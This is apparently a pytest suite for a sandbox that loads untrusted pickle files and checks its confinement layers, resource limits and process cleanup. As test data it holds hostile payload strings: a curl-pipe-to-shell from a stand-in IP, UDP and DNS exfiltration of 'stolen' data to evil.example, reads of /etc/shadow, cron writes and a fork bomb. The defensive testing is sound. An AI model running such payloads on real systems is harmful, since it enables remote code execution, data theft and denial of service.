"""The host's side: what comes out, what is told, which limit ends it, and that nothing stays."""

from __future__ import annotations

import os
import pickle
import signal
import subprocess
import sys
import time

import numpy as np
import psutil
import pytest

from tests.corpus.payloads import Does
from weighbridge.sandbox import Bounds, Kind, Sandbox
from weighbridge.schema import SourceError, Unavailable
from weighbridge.source.blob import OpenBlob

BOUNDS = Bounds(memory=1 << 30, processor=2, seconds=3, output=1 << 22)


def loaded(sandbox, folder, code, **more):
    path = folder / "m.pkl"
    path.write_bytes(pickle.dumps(Does(code) if isinstance(code, str) else code, 2))
    return sandbox.load(str(path), "pickle", bounds=more.pop("bounds", BOUNDS), **more)


def what(found, kind):
    return [one.what for one in found.attempts if one.kind is kind]


def test_tensors_come_out_sealed_and_values_in_words(sandbox, tmp_path):
    array = np.arange(6.0).reshape(2, 3)
    found = loaded(sandbox, tmp_path, {"a": array, "b": [array.T], "epoch": 3, "name": "x"})
    image = OpenBlob(found.image)
    tensors = {
        one.name: image.read(found.tensors.data + one.start, one.end - one.start) for one in found.tensors.tensors
    }
    assert tensors == {"a": array.tobytes(), "b.0": array.T.tobytes()}
    assert {one.path: one.what for one in found.answer.values} == {"epoch": "3", "name": "'x'"}
    with pytest.raises(OSError, match="not permitted"):
        os.write(found.image, b"x")
    os.close(found.image)


def test_every_layer_holds(sandbox, tmp_path):
    found = loaded(sandbox, tmp_path, {})
    assert {one.split()[0] for one in found.layers} >= {
        "rlimits",
        "capabilities",
        "no-new-privs",
        "landlock",
        "seccomp",
        "supervisor",
    }


def test_a_layer_that_is_required_and_missing_stops_the_load(sandbox, tmp_path):
    path = tmp_path / "m.pkl"
    path.write_bytes(pickle.dumps(Does("open('/dev/null')")))
    with pytest.raises(Unavailable, match=r"does not hold: landlock missing, active: rlimits, .*supervisor"):
        sandbox.load(str(path), "pickle", layers=("rlimits", "capabilities", "seccomp", "supervisor"))
    assert loaded(sandbox, tmp_path, {"a": 1}).answer.kind == "builtins.dict"


def test_a_file_that_is_not_there_is_told(sandbox, tmp_path):
    with pytest.raises(SourceError, match="no such file"):
        sandbox.load(str(tmp_path / "missing.pkl"), "pickle")


OBSERVED = {
    "a command": ("import os; os.system('curl -s http://198.51.100.7/x | sh')", Kind.PROGRAM, "sh -c curl -s http://198.51.100.7/x | sh"),
    "a command without a shell": ("import subprocess; subprocess.run(['id', '-u'])", Kind.PROGRAM, "id -u"),
    "an address": ("import socket; socket.create_connection(('198.51.100.7', 443))", Kind.NETWORK, "198.51.100.7:443"),
    "what is sent": ("import socket; s = socket.socket(2, 2); s.sendto(b'stolen', ('198.51.100.7', 53))", Kind.NETWORK, "198.51.100.7:53: stolen"),
    "a question for a name": (
        "import socket; s = socket.socket(2, 2); s.connect(('198.51.100.7', 53)); s.send(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6stolen\\4evil\\7example\\0\\0\\1\\0\\1')",
        Kind.NETWORK, "asks for the name stolen.evil.example",
    ),
    "a file that is read": ("open('/etc/shadow')", Kind.READ, "/etc/shadow"),
    "a file that is written": ("open('/etc/cron.d/x', 'w')", Kind.WRITE, "/etc/cron.d/x"),
    "another process": ("import os; os.kill(4242, 9)", Kind.PROCESS, "process 4242"),
    "sleep": ("import time; time.sleep(3600)", Kind.LIMIT, "3600 s of sleep"),
}  # fmt: skip


@pytest.mark.parametrize("name", OBSERVED)
def test_observing_tells(sandbox, tmp_path, name):
    code, kind, wanted = OBSERVED[name]
    assert wanted in what(loaded(sandbox, tmp_path, code, observe=True), kind)


def test_a_payload_that_waits_is_seen_all_the_same(sandbox, tmp_path):
    code = "import time, os; time.sleep(86400); os.system('late')"
    assert what(loaded(sandbox, tmp_path, code, observe=True), Kind.PROGRAM) == ["sh -c late"]
    assert loaded(sandbox, tmp_path, code).limit == "time"


LIMITS = {
    "time": "import time; time.sleep(60)",
    "processor time": "while True: pass",
    "memory": "b = []\nwhile True: b.append(bytearray(1 << 24))",
    "output": "import os\nwhile True: os.write(1, b'x' * 65536)",
}


@pytest.mark.parametrize("limit", LIMITS)
def test_a_limit_ends_it_and_is_named(sandbox, tmp_path, limit):
    # Little memory: filling more of it takes processor time on a busy machine.
    found = loaded(
        sandbox, tmp_path, LIMITS[limit], bounds=Bounds(memory=200 << 20, processor=2, seconds=4, output=1 << 22)
    )
    assert found.limit == limit
    assert found.image == -1


def test_a_fork_bomb_gets_no_processes_and_ends(sandbox, tmp_path):
    found = loaded(sandbox, tmp_path, "import os\nwhile True: os.fork()", observe=True)
    assert "a new process" in what(found, Kind.PROCESS)
    below = psutil.Process(sandbox._process.pid).children(recursive=True)
    _, alive = psutil.wait_procs(below, timeout=5)
    assert alive == []


FORGED = {
    "no message": "import os; os._exit(0)",
    "another type": "import os; os.write(5, b'[1, 2]'); os._exit(0)",
    "half a message": "import os; os.write(5, b'{\"kind\":'); os._exit(0)",
    "tensors that are none": "import os; os.write(4, b'\\xff' * 64); os.write(5, b'{\"kind\":\"x\",\"tensors\":1}'); os._exit(0)",
    "tensors that overlap": (
        "import os, json; h = json.dumps({'a': {'dtype': 'F32', 'shape': [1], 'data_offsets': [0, 4]}, 'b': {'dtype': 'F32', 'shape': [1], 'data_offsets': [0, 4]}}).encode();"
        "os.write(4, len(h).to_bytes(8, 'little') + h + b'....'); os.write(5, b'{\"kind\":\"x\",\"tensors\":2}'); os._exit(0)"
    ),
    "a pickle": "import os, pickle; os.write(5, pickle.dumps({})); os._exit(0)",
}  # fmt: skip


@pytest.mark.parametrize("name", FORGED)
def test_an_answer_of_the_files_own_is_refused(sandbox, tmp_path, name):
    found = loaded(sandbox, tmp_path, FORGED[name])
    assert found.image == -1
    assert what(found, Kind.ANSWER) or "without an answer" in found.answer.error


def test_the_child_has_no_environment_and_no_descriptors_of_ours(sandbox, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "secret")
    found = loaded(sandbox, tmp_path, "import os; print(dict(os.environ))")
    assert "secret" not in found.printed
    assert "OMP_NUM_THREADS" in found.printed


def running(folder, code):
    """A host of its own, which loads a pickle and is killed while it does."""
    (folder / "m.pkl").write_bytes(pickle.dumps(Does(code), 2))
    text = (
        "import sys; from weighbridge.sandbox import Sandbox\n"
        "s = Sandbox(); print(s._process.pid, flush=True)\n"
        "s.load(sys.argv[1], 'pickle', observe=True)"
    )
    host = subprocess.Popen([sys.executable, "-c", text, str(folder / "m.pkl")], stdout=subprocess.PIPE, text=True)
    zygote = int(host.stdout.readline())
    deadline = time.monotonic() + 20
    while len(below := psutil.Process(zygote).children(recursive=True)) < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    return host, zygote, [psutil.Process(zygote), *below]


@pytest.mark.parametrize("victim", ["host", "zygote", "warden", "child"])
def test_whoever_is_killed_nothing_stays(tmp_path, sandbox, victim):
    del sandbox
    code = "import os, signal\nfor n in range(3): os.fork()\nwhile True: pass"
    host, zygote, below = running(tmp_path, code)
    pid = {
        "host": host.pid,
        "zygote": zygote,
        "warden": below[1].pid,
        "child": below[2].pid if len(below) > 2 else below[1].pid,
    }[victim]
    os.kill(pid, signal.SIGKILL)
    _, alive = psutil.wait_procs(below[1:], timeout=10)
    assert [one for one in alive if one.status() != psutil.STATUS_ZOMBIE] == []
    host.kill()
    host.wait()
    host.stdout.close()
    _, alive = psutil.wait_procs([below[0]], timeout=10)
    assert [one for one in alive if one.status() != psutil.STATUS_ZOMBIE] == []
    assert os.listdir(tmp_path) == ["m.pkl"]


def test_a_sandbox_that_has_ended_says_so(tmp_path, sandbox):
    del sandbox
    (tmp_path / "m.pkl").write_bytes(pickle.dumps(1))
    with Sandbox() as made:
        os.kill(made._process.pid, signal.SIGKILL)
        made._process.wait()
        assert not made.alive
        with pytest.raises(Unavailable):
            made.load(str(tmp_path / "m.pkl"), "pickle")


def test_without_namespaces_the_other_layers_carry_it(tmp_path, sandbox):
    """As inside Docker's default profile, which allows no new namespaces."""
    del sandbox
    with Sandbox(namespaces=False) as made:
        found = loaded(made, tmp_path, "import os; os.system('id'); open('/etc/shadow')", observe=True)
        assert made.namespaces == ()
        assert what(found, Kind.PROGRAM) == ["sh -c id"]


def test_without_landlock_opens_are_still_the_hosts(tmp_path, sandbox):
    """What a kernel without Landlock has left, where the caller accepts it."""
    (tmp_path / "secret").write_text("hidden")
    found = loaded(
        sandbox, tmp_path, f"print(open({str(tmp_path / 'secret')!r}).read())",
        layers=("rlimits", "capabilities", "no-new-privs", "seccomp", "supervisor"), required=("seccomp", "supervisor"),
    )  # fmt: skip
    assert "hidden" not in found.printed
    assert "PermissionError" in found.answer.error


CONTAINER = """
import struct, sys
from weighbridge.sandbox import Sandbox, kernel
from weighbridge.sandbox.abi import machine
# What the default profile of Docker refuses to a process without CAP_SYS_ADMIN (moby, profiles/seccomp/default.json), as far as it matters here.
refused = "unshare setns mount umount2 pivot_root pidfd_getfd keyctl add_key request_key bpf perf_event_open userfaultfd kcmp open_by_handle_at".split()
numbers = machine().numbers
code = [struct.pack("<HBBI", 0x20, 0, 0, 0)]
for name in refused:
    code += [struct.pack("<HBBI", 0x15, 0, 1, numbers[name]), struct.pack("<HBBI", 0x06, 0, 0, 0x00050001)]
code += [struct.pack("<HBBI", 0x15, 0, 3, numbers["clone"]), struct.pack("<HBBI", 0x20, 0, 0, 16),
         struct.pack("<HBBI", 0x45, 0, 1, 0x7E020000), struct.pack("<HBBI", 0x06, 0, 0, 0x00050001)]
code.append(struct.pack("<HBBI", 0x06, 0, 0, 0x7FFF0000))
kernel.drop_capabilities()
kernel.no_new_privileges()
kernel.install_filter(b"".join(code), listener=False)
with Sandbox() as made:
    found = made.load(sys.argv[1], "pickle", observe=True)
    print(made.namespaces, found.layers, [(one.call, one.what) for one in found.attempts])
"""


def test_it_holds_where_a_container_refuses_namespaces(tmp_path, sandbox):
    del sandbox
    (tmp_path / "m.pkl").write_bytes(pickle.dumps(Does("import os; os.system('id')"), 2))
    found = subprocess.run(
        [sys.executable, "-c", CONTAINER, str(tmp_path / "m.pkl")],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert found.stdout.startswith("() ('rlimits', 'capabilities', 'no-new-privs', 'landlock"), found.stderr
    assert "('execve', 'sh -c id')" in found.stdout
